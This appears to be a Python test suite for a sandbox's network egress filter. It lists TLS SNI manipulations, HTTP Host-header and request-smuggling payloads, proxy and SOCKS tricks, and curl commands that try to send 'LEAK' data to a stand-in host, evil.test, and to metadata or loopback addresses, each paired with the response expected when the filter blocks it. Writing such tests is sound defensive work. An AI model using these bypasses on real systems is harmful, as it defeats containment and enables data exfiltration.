"""Attempts by data on a connection: TLS, HTTP, and the proxy of the sandbox itself."""

from typing import Final

from tests.egress.attempt import python, shell
from tests.egress.servers import OTHER

# -- TLS: other names ------------------------------------------------------------------------------------------------
TLS: Final = r"""
def tls(sni, host='good.test', wrap=None, min=None, max=None):
    c = ssl._create_unverified_context()
    if max: c.maximum_version = max
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(i, o, server_hostname=sni)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    hello = o.read()
    s = socket.socket(); s.connect((host, 443))
    try:
        for piece in (wrap(hello) if wrap else [hello]):
            s.sendall(piece)
        first = s.recv(65536)
        print('alert' if first[:1] == b'\x15' else 'handshake' if first[:1] == b'\x16' else first[:20], first[5:7])
        i.write(first)
        for _ in range(20):
            try: t.do_handshake(); break
            except ssl.SSLWantReadError:
                out = o.read()
                if out: s.sendall(out)
                i.write(s.recv(65536))
        out = o.read()
        if out: s.sendall(out)
        t.write(b'GET /tls HTTP/1.1\r\nHost: good.test\r\n\r\n'); s.sendall(o.read())
        for _ in range(9):
            i.write(s.recv(65536))
            try: print(t.read(100)); break
            except ssl.SSLWantReadError: pass
    except (OSError, ssl.SSLError) as error: print('failed', error)
def records(hello, size):
    body = hello[5:]
    return [b'\x16\x03\x01' + struct.pack('>H', len(body[a:a+size])) + body[a:a+size] for a in range(0, len(body), size)]
"""
python("sni-right", TLS + "tls('good.test')", "handshake[^$]*200 OK")
python("sni-right-1.2", TLS + "tls('good.test', max=ssl.TLSVersion.TLSv1_2)", "handshake[^$]*200 OK")
python("sni-other", TLS + "tls('evil.test')", "alert")
python("sni-granted-elsewhere", TLS + "tls('www.good.test')", "alert")
python("sni-absent", TLS + "tls(None)", "alert")
python("sni-address", TLS + "tls('93.184.216.35')", "alert")
python("sni-upper", TLS + "tls('GOOD.TEST')", "handshake")
python("sni-split-bytes", TLS + "tls('evil.test', wrap=lambda h: [h[a:a+1] for a in range(len(h))])", "alert")
python(
    "sni-split-bytes-right",
    TLS + "tls('good.test', wrap=lambda h: [h[a:a+1] for a in range(len(h))])",
    "handshake[^$]*200 OK",
)
python("sni-split-records", TLS + "tls('evil.test', wrap=lambda h: records(h, 7))", "alert")
python(
    "sni-split-records-right", TLS + "tls('good.test', wrap=lambda h: records(h, 37))", "handshake[^$]*200 OK"
)
python(
    "sni-after-padding",
    TLS
    + r"""
def pad(h):
    body = bytearray(h[9:])
    at = 34; at += 1 + body[at]; at += 2 + int.from_bytes(body[at:at+2], 'big'); at += 1 + body[at]
    ext = bytes(body[at+2:]); ext = b'\x00\x15' + struct.pack('>H', 12000) + bytes(12000) + ext
    new = bytes(body[:at]) + struct.pack('>H', len(ext)) + ext
    new = b'\x01' + len(new).to_bytes(3, 'big') + new
    return [b'\x16\x03\x01' + struct.pack('>H', len(new)) + new]
tls('evil.test', wrap=pad)""",
    "alert",
)
python(
    "sni-twice",
    TLS
    + r"""
def twice(h):
    return [h.replace(b'\x00\x00\x00\x0e\x00\x0c\x00\x00\x09good.test', b'\x00\x00\x00\x1a\x00\x18\x00\x00\x09good.test\x00\x00\x09evil.test')]
tls('good.test', wrap=twice)""",
    "alert|failed",
)
python(
    "sni-trailing-dot",
    TLS + "tls('good.test', wrap=lambda h: [h.replace(b'good.test', b'good.tes.')])",
    "alert",
)
python("sni-nul", TLS + "tls('good.test', wrap=lambda h: [h.replace(b'good.test', b'good\\0test')])", "alert")
python(
    "tls-sslv2",
    "print(tcp('good.test', 443, b'\\x80\\x2e\\x01\\x03\\x01\\0\\x15\\0\\0\\0\\x10' + bytes(40)))",
    "x15",
)
python(
    "tls-plain-http",
    "print(tcp('good.test', 443, b'GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'))",
    "x15",
)
python("tls-ssh", "print(tcp('good.test', 443, b'SSH-2.0-LEAK\\r\\n'))", "x15")
python("tls-alert-first", "print(tcp('good.test', 443, b'\\x15\\3\\1\\0\\2\\1\\0LEAK'))", "x15")
python("tls-data-after-hello", TLS + "tls('evil.test', wrap=lambda h: [h + b'LEAK'*20])", "alert")
python("tls-half-hello", TLS + "tls('good.test', wrap=lambda h: [h[:60], b'LEAK'*30])", "alert|failed")
shell(
    "curl-connect-to",
    "curl -sSk -m 20 --connect-to evil.test:443:good.test:443 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "curl-resolve",
    f"curl -sSk -m 20 --resolve good.test:443:{OTHER} https://good.test/LEAK; echo status $?",
    "status 7",
)
shell(
    "curl-resolve-synthetic",
    "curl -sSk -m 20 --resolve evil.test:443:198.18.1.0 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "openssl-noservername",
    "echo LEAK | timeout 20 openssl s_client -connect good.test:443 -noservername 2>&1 | tail -3",
    "Verify|alert",
    "openssl",
)

# -- HTTP: other hosts, and two readings of one message ---------------------------------------------------------------
OK: Final = "GET / HTTP/1.1\\r\\nHost: good.test\\r\\n"
for title, raw, says in (
    ("host-other", "GET /LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
    ("host-missing", "GET /LEAK HTTP/1.1\\r\\n\\r\\n", "400"),
    ("host-missing-1.0", "GET /LEAK HTTP/1.0\\r\\n\\r\\n", "400"),
    ("host-twice", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("host-list", "GET /LEAK HTTP/1.1\\r\\nHost: good.test, evil.test\\r\\n\\r\\n", "400"),
    ("host-port", "GET /LEAK HTTP/1.1\\r\\nHost: good.test:8080\\r\\n\\r\\n", "421"),
    ("host-userinfo", "GET /LEAK HTTP/1.1\\r\\nHost: good.test@evil.test\\r\\n\\r\\n", "400"),
    ("host-space", "GET /LEAK HTTP/1.1\\r\\nHost : evil.test\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("host-folded", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n evil.test\\r\\n\\r\\n", "400"),
    ("host-nul", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\0evil.test\\r\\n\\r\\n", "400"),
    ("host-percent", "GET /LEAK HTTP/1.1\\r\\nHost: good%2etest\\r\\n\\r\\n", "400"),
    ("host-address", f"GET /LEAK HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n", "421"),
    ("absolute-other", "GET http://evil.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("absolute-both", "GET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
    ("absolute-userinfo", "GET http://good.test@evil.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("absolute-backslash", "GET http://evil.test\\\\@good.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("absolute-https", "GET https://good.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("connect", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\nLEAK", "403|421"),
    ("connect-granted", "CONNECT good.test:22 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nLEAK", "403"),
    ("upgrade-websocket", OK + "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n", "403"),
    ("upgrade-other", OK + "Connection: Upgrade\\r\\nUpgrade: LEAK\\r\\n\\r\\n", "403"),
    ("h2-preface", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", "400"),
    ("http-0.9", "GET /LEAK\\r\\n\\r\\n", "400"),
    ("version-odd", "GET /LEAK HTTP/1.2\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("bare-lf", "GET /LEAK HTTP/1.1\\nHost: good.test\\n\\n", "400"),
    ("bare-lf-header", "GET / HTTP/1.1\\r\\nHost: good.test\\nX: LEAK\\r\\n\\r\\n", "400"),
    ("bare-cr", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nX: a\\rHost: LEAK\\r\\n\\r\\n", "400"),
    ("smuggle-cl-te", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("smuggle-te-cl", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n5c\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n0\\r\\n\\r\\n", "400"),
    ("smuggle-te-te", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: x\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-te-odd", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-te-tab", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding:\\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-te-1.0", "POST / HTTP/1.0\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-cl-cl", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("smuggle-cl-plus", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: +0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-cl-list", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0, 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-chunk-extension", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1;a=\\nb\\r\\nx\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", ""),
    ("smuggle-trailer", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\nHost: evil.test\\r\\nX-LEAK: 1\\r\\n\\r\\n", "200"),
    ("pipeline-other", OK + "\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
    ("pipeline-after-body", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 2\\r\\n\\r\\nabGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
    ("pipeline-good", OK + "\\r\\n" + OK + "Connection: close\\r\\n\\r\\n", "200 .*200 "),
    ("connection-drops-host", OK + "Connection: close, Host\\r\\n\\r\\n", "200"),
    ("connection-drops-length", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 44\\r\\nConnection: Content-Length\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", ""),
    ("forwarded-host", OK + "X-Forwarded-Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n", "200"),
    ("header-huge", OK + "X: ' + b'a'*70000 + b'\\r\\n\\r\\n", "431|400"),
    ("headers-many", OK + "' + b'X: a\\r\\n'*300 + b'\\r\\n", "431"),
    ("fragment", "GET /#LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
):  # fmt: skip
    python(f"http-{title}", f"http(b'{raw}')", says)
shell("http-redirect", "curl -sS -m 20 -L http://good.test/redirect; echo status $?", "status 6")
shell(
    "http-proxy-variable",
    f"http_proxy=http://{OTHER}:8080 curl -sS -m 20 http://good.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "http-granted-as-proxy",
    "curl -sS -m 20 -x http://good.test:80 http://evil.test/LEAK; echo status $?",
    "evil.test",
)
shell(
    "http-granted-as-connect-proxy",
    "curl -sSk -m 20 -p -x http://good.test:80 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "socks-granted",
    "curl -sS -m 20 --socks5-hostname good.test:80 http://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell("curl-host-header", "curl -sS -m 20 -H 'Host: evil.test' http://good.test/LEAK", "would allow")
shell(
    "curl-h2c-prior",
    "curl -sS -m 20 --http2-prior-knowledge http://good.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "curl-doh",
    f"curl -sSk -m 20 --doh-url https://{OTHER}/dns-query http://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "curl-interface",
    f"curl -sS -m 20 --interface 10.213.0.2 http://{OTHER}/LEAK; echo status $?",
    "status [1-9]",
)
shell("curl-unset-proxies", f"env -i curl -sS -m 20 http://{OTHER}/LEAK; echo status $?", "status 7")

# -- the proxy of the sandbox itself -----------------------------------------------------------------------------------
for title, raw, says in (
    ("connect-denied", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\nLEAK", "403"),
    ("connect-port", "CONNECT good.test:22 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nLEAK", "403"),
    ("connect-nul", "CONNECT evil.test\\0.good.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
    ("connect-userinfo", "CONNECT good.test@evil.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
    ("connect-literal", f"CONNECT {OTHER}:443 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-decimal", "CONNECT 1572395043:443 HTTP/1.1\\r\\n\\r\\nLEAK", "400"),
    ("connect-loopback", "CONNECT 127.0.0.1:22 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-mapped", "CONNECT [::ffff:10.1.2.3]:80 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-private-name", "CONNECT private.test:443 HTTP/1.1\\r\\n\\r\\nLEAK", "403"),
    ("connect-not-tls", "CONNECT good.test:443 HTTP/1.1\\r\\n\\r\\nLEAK and more of it", "x15"),
    ("connect-tcp", "CONNECT other.test:7000 HTTP/1.1\\r\\n\\r\\nfine", "200 [^$]*fine"),
    ("get-denied", "GET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "403"),
    ("get-two-hosts", "GET http://good.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("get-second", "GET http://good.test/a HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "200"),
    ("get-tls-port", "GET http://good.test:443/LEAK HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n", "403"),
    ("get-relative", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
):  # fmt: skip
    python(f"proxy-{title}", f"http(b'{raw}', '198.18.0.3', 3128)", says)
for title, raw, says in (
    ("denied", "\\3\\x09evil.test\\1\\xbb", "x05.x02"),
    ("nul", "\\3\\x13evil.test\\0.good.test\\1\\xbb", "x05.x02"),
    ("literal", "\\1\\x5d\\xb8\\xd8\\x23\\1\\xbb", "x05.x02"),
    ("loopback", "\\1\\x7f\\0\\0\\1\\0\\x16", "x05.x02"),
    ("private-name", "\\3\\x0cprivate.test\\1\\xbb", "x05.x02"),
    ("metadata-text", "\\3\\x0f169.254.169.254\\0P", "x05.x02"),
    ("decimal-text", "\\3\\x0a2852039166\\0P", "x05.x02"),
    ("tcp", "\\3\\x0aother.test\\x1b\\x58", "fine"),
):  # fmt: skip
    python(f"socks-{title}", f"tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\1\\0{raw}' + b'fine')", says)
python(
    "socks-udp-associate",
    "tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\3\\0\\1\\0\\0\\0\\0\\0\\0')",
    "x05.x02|failed",
)
python("socks-bind", "tcp('198.18.0.3', 1080, b'\\5\\1\\0\\5\\2\\0\\1\\0\\0\\0\\0\\0\\x50')", "x05.x02")
python("socks-4", "tcp('198.18.0.3', 1080, b'\\4\\1\\1\\xbb\\0\\0\\0\\1x\\0evil.test\\0')", "got b''|failed")
shell(
    "proxy-curl",
    "curl -sS -m 20 -x http://198.18.0.3:3128 http://good.test/a http://good.test/b",
    "served /a[^$]*served /b",
)
shell("proxy-curl-tls", "curl -sSk -m 20 -x http://198.18.0.3:3128 https://good.test/", "secure")
shell(
    "proxy-curl-socks",
    "curl -sSk -m 20 -x socks5h://198.18.0.3:1080 https://good.test/ http://good.test/c",
    "secure[^$]*served /c",
)
shell(
    "proxy-curl-denied",
    "curl -sSk -m 20 -x http://198.18.0.3:3128 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "proxy-curl-sni",
    "curl -sSk -m 20 -x http://198.18.0.3:3128 --connect-to evil.test:443:good.test:443 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
